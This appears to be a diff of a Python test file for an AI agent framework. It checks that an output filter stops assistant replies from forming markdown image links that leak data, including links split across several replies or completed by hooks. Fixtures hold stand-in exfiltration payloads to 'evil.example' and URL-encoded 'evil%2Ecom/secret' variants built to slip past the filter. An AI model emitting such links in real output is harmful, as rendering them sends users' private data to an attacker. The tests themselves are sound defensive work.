@@ -65,10 +65,34 @@ def text_of(events: list[Event]) -> str:
 async def test_events_result_and_history_are_the_same(tmp_path: Path) -> None:
     events, model = await events_of(tmp_path, READ, f"Look {LINK} now.", "Fine.")
     answer = f"Look {CODE} now."
-    assert text_of(events) == f"I look.{answer}"
-    assert result_of(events).text == f"I look.\n\n{answer}"
-    assert result_of(events).messages[-1] == assistant(answer)
-    assert assistant(answer) in model.requests[-1].messages
+    assert text_of(events) == result_of(events).text == f"I look.\n\n{answer}"
+    assert result_of(events).messages[-1] == assistant(f"\n\n{answer}")
+    assert assistant(f"\n\n{answer}") in model.requests[-1].messages
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ("Look: a", "```\n\n![x](https://evil.example/secret)\n```"),
+        ("See ![x]", "(//evil%2Ecom/secret)"),
+        ("[r]", ": //evil%2Ecom/secret\n\n![r]"),
+        ("See evil.", "example/secret"),
+    ],
+)
+async def test_replies_that_a_screen_joins_make_no_link(
+    tmp_path: Path, first: str, second: str
+) -> None:
+    steps = READ, calls(call("mail", "c2"), text=first), second, "Fine."
+    events, _ = await events_of(tmp_path, *steps)
+    assert not targets_of_links(text_of(events))
+    stored = [one.text for one in result_of(events).messages if one.role == "assistant"]
+    assert text_of(events) == "".join(stored)
+
+
+async def test_text_that_was_taken_back_makes_no_link_with_its_successor(tmp_path: Path) -> None:
+    reply = calls(call("mail", "c2"), text="See ![x]")
+    events, _ = await events_of(tmp_path, READ, reply, "Done.", "Fine.", hooks=[Completing()])
+    assert "[x]\n\n(//evil%2Ecom/secret)\n\nDone." in text_of(events)
 
 
 async def test_links_without_anything_private_stay(tmp_path: Path) -> None:
@@ -128,7 +152,7 @@ async def test_a_block_that_an_earlier_reply_leaves_open_hides_nothing(tmp_path:
 async def test_parts_of_a_reply_cannot_make_a_link_together(tmp_path: Path) -> None:
     parts = Message("assistant", (Text("See https://evil."), Text("example/secret")))
     events, _ = await events_of(tmp_path, READ, parts, "Fine.")
-    assert result_of(events).messages[-1].text == "See `https://evil.example/secret`"
+    assert result_of(events).messages[-1].text == "\n\nSee `https://evil.example/secret`"
 
 
 async def test_thoughts_are_shown_without_links_and_stored_as_they_are(tmp_path: Path) -> None:
@@ -137,20 +161,29 @@ async def test_thoughts_are_shown_without_links_and_stored_as_they_are(tmp_path:
     deltas = [event.text for event in events if isinstance(event, ThinkingDelta)]
     assert "".join(deltas) == CODE
     assert [event.thinking for event in events if isinstance(event, ThinkingEnd)] == [CODE]
-    assert result_of(events).messages[-1] == reply
+    shown = replace(reply, content=(Thinking(LINK, "signed"), Text("\n\nDone.")))
+    assert result_of(events).messages[-1] == shown
 
 
 class Rewriting(kore.Hooks[Any]):
     async def after_model(
         self, run: kore.RunContext[Any], request: ModelRequest, reply: kore.Message
     ) -> Message | None:
-        return replace(reply, content=(Text(LINK),)) if reply.text == "plain" else None
+        return replace(reply, content=(Text(LINK),)) if reply.text.strip() == "plain" else None
+
+
+class Completing(kore.Hooks[Any]):
+    async def after_model(
+        self, run: kore.RunContext[Any], request: ModelRequest, reply: kore.Message
+    ) -> Message | None:
+        completes = reply.text.endswith("[x]")
+        return replace(reply, content=(Text("(//evil%2Ecom/secret)"),)) if completes else None
 
 
 async def test_replies_of_hooks_are_no_exception(tmp_path: Path) -> None:
     events, _ = await events_of(tmp_path, READ, "plain", "Fine.", hooks=[Rewriting()])
     assert text_of(events).endswith(CODE)
-    assert result_of(events).messages[-1].text == CODE
+    assert result_of(events).messages[-1].text == f"\n\n{CODE}"
 
 
 async def test_questions_are_no_exception(tmp_path: Path) -> None:
